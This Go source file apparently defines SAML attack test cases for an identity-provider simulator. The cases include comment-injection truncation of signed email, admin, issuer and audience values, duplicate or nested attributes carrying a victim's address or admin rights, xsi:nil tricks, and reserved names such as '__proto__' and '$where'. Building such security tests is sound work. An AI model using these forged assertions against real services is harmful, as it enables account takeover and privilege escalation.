package forge

import (
	"slices"

	"github.com/beevik/etree"

	"rollcall.example/simulator/idp"
)

// idtAttribute are answers about the attacker whose attributes say something of the
// victim, of rights that nobody gave, or nothing that can be read.
var idtAttribute = []Attack{
	{
		Name: "email-broken-by-comment", Row: "IDT-02", Rule: "values-read-whole", Summary: "breaks the address in an attribute off with a comment", Expect: Harmless, Enrolled: true,
		Sources:  commentCVEs,
		claims:   as(func(d *Donor) { d.state("email", d.Victim+beyond) }),
		document: inAssertion(valueOf("email"), brokenBehind(func(d Donor) string { return d.Victim })),
	},
	{
		Name: "admin-broken-by-comment", Row: "IDT-02", Rule: "values-read-whole", Summary: "breaks off with a comment what is said of being an administrator", Expect: Harmless, ByHand: true,
		Sources:  commentCVEs,
		claims:   as(func(d *Donor) { d.state("admin", "true"+beyond) }),
		document: inAssertion(valueOf("admin"), brokenBehind(func(Donor) string { return "true" })),
	},
	{
		Name: "issuer-broken-by-comment", Row: "IDT-03", Rule: "addresses-read-whole", Summary: "breaks off with a comment an issuer that begins like the right one",
		Sources: commentCVEs,
		claims:  as(func(d *Donor) { d.Identity.EntityID += beyond }),
		document: then(
			inResponse("Issuer", brokenBehind(issuerWithout)),
			inAssertion("Issuer", brokenBehind(issuerWithout)),
		),
	},
	{
		Name: "audience-broken-by-comment", Row: "IDT-03", Rule: "addresses-read-whole", Summary: "breaks off with a comment an audience that begins like the right one",
		Sources:  commentCVEs,
		claims:   says(func(c *idp.Claims) { c.Audience += beyond }),
		document: inAssertion(restriction+"/Audience", brokenBehind(func(d Donor) string { return withoutBeyond(d.Claims.Audience) })),
	},
	{
		Name: "email-twice-victim-last", Row: "IDT-12", Rule: "attribute-once", Summary: "has two attributes for the address, the victim's last", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID) }),
		draft:  inAssertion(attributeNamed("email"), copied(1, ofVictim)),
	},
	{
		Name: "email-twice-victim-first", Row: "IDT-12", Rule: "attribute-once", Summary: "has two attributes for the address, the victim's first", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID) }),
		draft:  inAssertion(attributeNamed("email"), copied(0, ofVictim)),
	},
	{
		Name: "email-by-friendly-name", Row: "IDT-13", Rule: "friendly-name-is-for-people", Summary: "has another attribute called email for people, with the victim's address", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID) }),
		draft:  inAssertion(attributeNamed("email"), copied(1, all(ofVictim, with("Name", "urn:oid:1.3.6.1.4.1.32473.1"), with("FriendlyName", "email")))),
	},
	{
		Name: "email-by-friendly-name-first", Row: "IDT-13", Rule: "friendly-name-is-for-people", Summary: "has, before the address, another attribute called email for people, with the victim's", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID) }),
		draft:  inAssertion(attributeNamed("email"), copied(0, all(ofVictim, with("Name", "urn:oid:1.3.6.1.4.1.32473.1"), with("FriendlyName", "email")))),
	},
	{
		Name: "email-in-two-formats", Row: "IDT-14", Rule: "format-tells-apart", Summary: "has two attributes for the address in different name formats", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID) }),
		draft:  inAssertion(attributeNamed("email"), copied(1, all(ofVictim, with("NameFormat", idp.NameFormatURI)))),
	},
	{
		Name: "admin-in-second-statement", Row: "IDT-15", Rule: "statements-not-merged", Summary: "has a second attribute statement that grants more", Expect: Harmless, ByHand: true,
		Sources: []string{"CVE-2017-18122"},
		claims:  as(func(d *Donor) { d.state("admin", "false") }),
		draft: inAssertion("AttributeStatement", copied(1, func(_ Donor, statement *etree.Element) error {
			return write(statement, "Attribute[@Name='admin']/AttributeValue", "true")
		})),
	},
	{
		Name: "admin-in-a-value", Row: "IDT-15", Rule: "statements-not-merged", Summary: "has inside of a value an attribute that grants more", Expect: Harmless, ByHand: true,
		claims: as(func(d *Donor) { d.state("title", "nobody") }),
		draft: inAssertion(valueOf("title"), func(_ Donor, value *etree.Element) error {
			inner := value.CreateElement("saml2:Attribute")
			inner.CreateAttr("Name", "admin")
			inner.CreateElement("saml2:AttributeValue").SetText("true")
			return nil
		}),
	},
	{
		Name: "email-of-two-values", Row: "IDT-16", Rule: "one-value-where-one-counts", Summary: "gives two addresses in one attribute, the victim's last", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Claims.NameID, d.Victim) }),
	},
	{
		Name: "email-of-victim", Row: "IDT-18", Rule: "name-and-address-agree", Summary: "names the attacker and gives the victim's address", Expect: Harmless, Enrolled: true,
		claims: as(func(d *Donor) { d.state("email", d.Victim) }),
	},
	{
		Name: "value-of-elements", Row: "IDT-28", Rule: "odd-values-survived", Summary: "has elements where the text of a value is expected", Expect: Harmless, NoCrash: true,
		claims: as(func(d *Donor) { d.state("name", "nobody") }),
		draft: inAssertion(valueOf("name"), func(_ Donor, value *etree.Element) error {
			value.Child = nil
			value.CreateElement("saml2:NameID").SetText("nobody")
			value.CreateElement("own:Name").CreateAttr("xmlns:own", "https://elsewhere.rollcall.test/types")
			return nil
		}),
	},
	{
		Name: "admin-of-nil", Row: "IDT-28", Rule: "nil-is-no-value", Summary: "says nothing of being an administrator, in as many words", Expect: Harmless, ByHand: true,
		claims: as(func(d *Donor) { d.state("admin", "true") }),
		draft: inAssertion(valueOf("admin"), func(_ Donor, value *etree.Element) error {
			value.CreateAttr("xmlns:xsi", "http://www.w3.org/2001/XMLSchema-instance")
			value.CreateAttr("xsi:nil", "true")
			value.Child = nil
			return nil
		}),
	},
	{
		Name: "rights-by-other-names", Row: "IDT-29", Rule: "only-mapped-attributes-count", Summary: "grants rights in attributes that nobody mapped", Expect: Accept, ByHand: true,
		claims: as(func(d *Donor) {
			for _, name := range []string{"isAdmin", "is_admin", "Admin", "superadmin", "owner"} {
				d.state(name, "true")
			}
			for _, name := range []string{"role", "roles", "userType", "user_type"} {
				d.state(name, "superadmin", "admin", "owner")
			}
		}),
	},
	{
		Name: "attributes-of-reserved-names", Row: "IDT-30", Rule: "reserved-names-mean-nothing", Summary: "has attributes whose names mean something to the product's own language", Expect: Accept, NoCrash: true, ByHand: true,
		claims: as(func(d *Donor) {
			for _, name := range []string{"__proto__", "constructor", "prototype", "toString", "__class__", "password", "id", "$where"} {
				d.state(name, "true")
			}
		}),
	},
}

func init() { register("idt", idtAttribute...) }

// commentCVEs are of the class in which a text ends at a comment inside of it.
var commentCVEs = []string{"CVE-2017-11427", "CVE-2017-11428", "CVE-2017-11429", "CVE-2017-11430", "CVE-2018-0489", "CVE-2018-7340", "CVE-2018-5387"}

// as alters the donor.
func as(alter func(*Donor)) func(*Donor) error {
	return func(d *Donor) error {
		alter(d)
		return nil
	}
}

// state makes the donor say this of an attribute, in place of what it would.
func (d *Donor) state(name string, values ...string) {
	d.Claims.Attributes = slices.DeleteFunc(d.Claims.Attributes, func(a idp.Attribute) bool { return a.Name == name })
	d.Claims.Attributes = append(d.Claims.Attributes, idp.Attribute{Name: name, Values: values})
}

func attributeNamed(name string) string { return "AttributeStatement/Attribute[@Name='" + name + "']" }

func valueOf(name string) string { return attributeNamed(name) + "/AttributeValue" }

// ofVictim makes an attribute one of the victim's address.
func ofVictim(d Donor, attribute *etree.Element) error {
	return write(attribute, "AttributeValue", d.Victim)
}

// all makes one change to an element after the other.
func all(changes ...func(Donor, *etree.Element) error) func(Donor, *etree.Element) error {
	return func(d Donor, el *etree.Element) error {
		for _, change := range changes {
			if err := change(d, el); err != nil {
				return err
			}
		}
		return nil
	}
}

// brokenBehind puts a comment into a text that was signed, behind what it begins with:
// canonicalization without comments leaves it out, so the signature still holds.
func brokenBehind(begins func(Donor) string) func(Donor, *etree.Element) error {
	return func(d Donor, el *etree.Element) error {
		el.SetText(begins(d))
		el.AddChild(etree.NewComment(""))
		el.AddChild(etree.NewText(beyond))
		return nil
	}
}

func issuerWithout(d Donor) string { return withoutBeyond(d.Identity.EntityID) }

func withoutBeyond(name string) string { return name[:len(name)-len(beyond)] }
